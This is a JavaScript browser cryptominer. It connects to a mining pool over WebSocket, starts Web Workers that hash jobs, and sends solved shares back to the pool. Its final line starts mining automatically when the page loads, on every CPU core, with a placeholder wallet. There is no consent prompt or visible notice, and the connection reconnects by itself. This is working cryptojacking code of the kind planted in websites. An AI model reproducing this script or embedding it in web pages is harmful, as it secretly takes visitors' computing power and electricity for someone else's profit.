// A page that speaks with a pool itself and hands jobs to its workers.
let server = 'wss://pool.example.net:8181', socket = null, job = null, workers = [], totalhashes = 0, throttleMiner = 20;
function addWorkers(count) {
  for (let i = 0; i < count; i += 1) {
    const worker = new Worker('worker.js');
    workers.push(worker);
    worker.onmessage = onWorker;
    setTimeout(() => informWorker(worker), 2000);
  }
}
function informWorker(worker) { if (job) worker.postMessage({ ...job, throttle: Math.max(0, Math.min(throttleMiner, 100)) }); }
function onWorker(event) {
  if (event.data === 'wakeup') return informWorker(event.target);
  const share = event.data;
  totalhashes += 1;
  socket.send(JSON.stringify({ identifier: 'solved', job_id: share.job_id, nonce: share.nonce, result: share.result }));
}
function openWebSocket(handshake) {
  socket = new WebSocket(server);
  socket.onopen = () => socket.send(JSON.stringify(handshake));
  socket.onmessage = (event) => {
    const message = JSON.parse(event.data);
    if (message.identifier === 'job') { job = message; workers.forEach(informWorker); }
  };
  socket.onclose = () => setTimeout(() => openWebSocket(handshake), 10000);
}
function startMining(pool, login, password, threads, userid) {
  openWebSocket({ identifier: 'handshake', pool, login, password, userid: userid || '', version: 8 });
  addWorkers(threads > 0 ? threads : navigator.hardwareConcurrency);
}
function stopMining() { workers.forEach((worker) => worker.terminate()); workers = []; }
startMining('pool.example.org', '4' + 'A'.repeat(94), 'x', -1);
